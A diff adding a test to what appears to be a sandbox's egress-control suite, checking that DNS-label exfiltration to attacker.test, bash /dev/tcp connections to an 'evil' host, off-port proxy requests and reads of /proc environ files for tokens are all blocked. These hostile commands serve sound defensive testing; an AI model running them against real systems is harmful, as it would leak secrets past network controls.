@@ -90,6 +90,7 @@ def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
     require("root")
     require("oci-runtime")
     require("template-base")
+    require("egress-network")
     from corral import Client, Sandbox, Secrets
     from corral.sdk.sync import run as sdk_run
 
@@ -287,6 +288,37 @@ def test_connect_to_denied_host_and_sni_host_mismatch(world: World) -> None:
     assert "B HTTP/1.1 200" in out and "TLSFAIL" in out and "TLSOK" not in out, out
     assert "TLSFAIL2" in out and "C HTTP/1.1 403" in out, out
     assert [s for s in world.seen_since(n) if "evil" in s.host] == []
+
+
+def test_dns_exfiltration_other_ports_and_dev_tcp(world: World) -> None:
+    q = len(world.dns.queries)
+    label = uuid.uuid4().hex
+    # E11: a secret in a label, to Corral's resolver and straight to the upstream resolver's address
+    # (UDP/53 to any address is answered by Corral's resolver, which never forwards a denied name).
+    out = world.py("import socket,struct\n"
+                   f"name=b'{label}.attacker.test'\n"
+                   "q=struct.pack('!HHHHHH',7,256,1,0,0,0)+b''.join(bytes([len(p)])+p for p in name.split(b'.'))+"
+                   "b'\\x00'+struct.pack('!HH',1,1)\n"
+                   f"for dst in ['{DNS_IP}','8.8.8.8']:\n"
+                   "  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3);s.sendto(q,(dst,53))\n"
+                   "  try: d=s.recv(512);print('rcode',d[3]&15)\n  except OSError: print('noanswer')")
+    assert "rcode 0" not in out, out
+    rc, _ = world.sh(f"getent hosts {label}.allowed.test.attacker.test")
+    assert rc != 0
+    assert not [x for x in world.dns.queries[q:] if label in x]
+    # E13: an allowed name on a port its entry does not list.
+    rc, out = world.sh("curl -sS --max-time 5 -p -x $HTTPS_PROXY http://allowed.test:22/ -o /dev/null "
+                       "-w '%{http_connect}'; echo; exec 3<>/dev/tcp/allowed.test/8080 && echo OPEN || echo CLOSED")
+    assert "403" in out and "OPEN" not in out, out
+    # E1 with bash's /dev/tcp straight to an IP: the proxy refuses it (the upstream sees nothing).
+    n = len(world.echo.seen)
+    rc, out = world.sh(f"exec 3<>/dev/tcp/{EVIL}/80 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && "
+                       "timeout 5 cat <&3")
+    assert "HTTP/1.1 200" not in out and world.seen_since(n) == []
+    # F1: the value is nowhere in the sandbox's process environment.
+    _, out = world.sh("cat /proc/self/environ | tr '\\0' '\\n' | grep -c corral-placeholder-; "
+                      "cat /proc/1/environ 2>&1 | head -c 100")
+    assert TOKEN not in out and API_KEY not in out
 
 
 def test_dns_rebinding_into_private_ranges_is_denied(world: World) -> None:
